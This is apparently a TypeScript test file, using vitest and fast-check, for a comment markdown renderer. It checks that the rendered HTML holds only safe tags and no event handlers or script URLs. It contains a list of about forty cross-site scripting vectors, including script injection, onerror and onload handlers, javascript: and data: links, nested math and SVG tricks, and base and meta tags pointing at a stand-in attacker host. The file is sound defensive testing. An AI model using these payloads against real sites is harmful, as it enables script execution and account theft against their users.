import fc from "fast-check";
import { describe, expect, test } from "vitest";
import { listMentions, renderMarkdown } from "@/lib/text/markdown/markdown";

const aTag = /<[^<>"]*(?:"[^"]*"[^<>"]*)*>/g;

/** Everything that could act must be absent from the tags themselves, whatever the text between them says. */
function expectHarmless(html: string) {
  const tags = html.match(aTag) ?? [];
  for (const tag of tags) {
    expect(tag).toMatch(
      /^<\/?(?:p|a|strong|em|del|code|pre|span|ul|ol|li|input|blockquote|h[1-6]|hr|br|table|thead|tbody|tr|t[hd]|sup|sub|section|m[a-z]*)(?=[\s/>])/,
    );
    expect(tag.replace(/"[^"]*"/g, '""')).not.toMatch(/\son\w+\s*=/i);
    expect(tag).not.toMatch(
      /(?:href|src|action|style|srcdoc|formaction|xlink:href)="(?!https?:|mailto:|\/|#)[^"]*"/i,
    );
    expect(tag.replace(/"[^"]*"/g, '""')).not.toMatch(/\sstyle=/i);
  }
  // What is not a tag holds no bare angle bracket that could become one.
  expect(html.replace(aTag, "")).not.toMatch(/</);
}

const payload = "window.stolen(1)";
const vectors = [
  `<script>${payload}</script>`,
  `<scr<script>ipt>${payload}</scr</script>ipt>`,
  `<SCRIPT SRC=//evil.example/x.js></SCRIPT>`,
  `<img src=x onerror=${payload}>`,
  `<IMG SRC="jav&#x09;ascript:${payload};">`,
  `<svg/onload=${payload}>`,
  `<svg><a xlink:href="javascript:${payload}"><text>x</text></a></svg>`,
  `<body onpageshow=${payload}>`,
  `<iframe srcdoc="<script>${payload}</script>"></iframe>`,
  `<details open ontoggle=${payload}>`,
  `<form><button formaction=javascript:${payload}>go</button></form>`,
  `<math><mtext><table><mglyph><style><img title="</style><img src onerror=${payload}>">`,
  `<a href="javascript:${payload}">go</a>`,
  `[go](javascript:${payload})`,
  `[go](JaVaScRiPt:${payload})`,
  `[go](java\tscript:${payload})`,
  `[go](&#106;avascript:${payload})`,
  `[go](javascript&colon;${payload})`,
  `[go](data:text/html;base64,PHNjcmlwdD4=)`,
  `[go](vbscript:msgbox)`,
  `<javascript:${payload}>`,
  `[go][ref]\n\n[ref]: javascript:${payload}`,
  `![x](javascript:${payload})`,
  `![x" onerror="${payload}](https://e.example/x.png)`,
  `[x](https://e.example/"onmouseover="${payload})`,
  `[x](https://e.example 't" onclick="${payload}')`,
  `\`\`\`"><script>${payload}</script>\ncode\n\`\`\``,
  `\`\`\`html\n<script>${payload}</script>\n\`\`\``,
  `$\\href{javascript:${payload}}{x}$`,
  `$\\text{</span><script>${payload}</script>}$`,
  `$$\n</p><img src=x onerror=${payload}>\n$$`,
  `$\\style{background:url(javascript:${payload})}{x}$`,
  `| a |\n|--|\n| <img src=x onerror=${payload}> |`,
  `[^1]\n\n[^1]: <script>${payload}</script>`,
  `<!--><script>${payload}</script>-->`,
  `</div></li></ol><h1>escaped</h1>`,
  `<style>@import'//evil.example'</style>`,
  `<base href="//evil.example">`,
  `<meta http-equiv="refresh" content="0;url=javascript:${payload}">`,
  `@<script>${payload}</script>`,
];

describe("Markdown of a comment", () => {
  test.each(vectors)("disarms %j", (vector) => {
    expectHarmless(renderMarkdown(vector));
    expectHarmless(renderMarkdown(`> - ${vector}`));
  });

  test("of any characters gives harmless HTML", () => {
    fc.assert(
      fc.property(fc.string({ unit: "grapheme", maxLength: 300 }), (text) =>
        expectHarmless(renderMarkdown(text)),
      ),
      { numRuns: 300 },
    );
  });

  test("built from dangerous pieces gives harmless HTML", { timeout: 30_000 }, () => {
    const piece = fc.oneof(
      fc.constantFrom(...vectors),
      fc.constantFrom(
        "$",
        "$$",
        "`",
        "```",
        "[",
        "](",
        ")",
        "<",
        ">",
        "\n",
        "|",
        "~",
        "*",
        "_",
        "\\",
        '"',
        "'",
        "&",
        "]]>",
        "-->",
      ),
    );
    const text = fc.array(piece, { maxLength: 12 }).map((pieces) => pieces.join(""));
    fc.assert(
      fc.property(text, (source) => expectHarmless(renderMarkdown(source))),
      { numRuns: 500 },
    );
  });

  test("links to whole addresses only", () => {
    expect(renderMarkdown("[a](/papers) [b](https://e.example)")).toMatch(
      /<a href="\/papers">a<.*<a href="https:\/\/e\.example" rel=/,
    );
    for (const nowhere of ["[]()", "[x](*)", "[x](papers)", "[x](?q=1)"])
      expect(renderMarkdown(nowhere)).not.toContain("href");
  });

  test("nested thousands deep is answered, not crashed on", { timeout: 30_000 }, () => {
    for (const mark of [">", "- ", "[", "*_", "([", "1. > "])
      expectHarmless(renderMarkdown(`${mark.repeat(4_000)}x`));
  });

  test("shows formulae, code in colour, tables and tasks", () => {
    expect(renderMarkdown("Since $x^2$,")).toContain("<msup>");
    expect(renderMarkdown("$$\nx\n$$")).toContain('display="block"');
    expect(renderMarkdown("```js\nconst a = 1;\n```")).toContain(
      '<span class="hljs-keyword">const</span>',
    );
    expect(renderMarkdown("| a |\n|--|\n| b |")).toContain("<td>b</td>");
    expect(renderMarkdown("- [x] done")).toContain("checked disabled");
  });

  test("turns a picture into a link, so that no reader's address reaches its host", () => {
    const html = renderMarkdown("![A cat](https://pictures.example/cat.png)");
    expect(html).toContain('href="https://pictures.example/cat.png"');
    expect(html).toContain("[picture: A cat]");
    expect(html).not.toContain("<img");
  });

  test("links people it mentions, but not in code, addresses or mails", () => {
    expect(renderMarkdown("Ask @ada.")).toContain('href="/users/ada"');
    expect(renderMarkdown("`@ada`")).not.toContain("/users/");
    expect(listMentions("@Ada and @bob, @ada; me@ada.org `@eve` https://x.example/@dan")).toEqual([
      "ada",
      "bob",
    ]);
  });
});
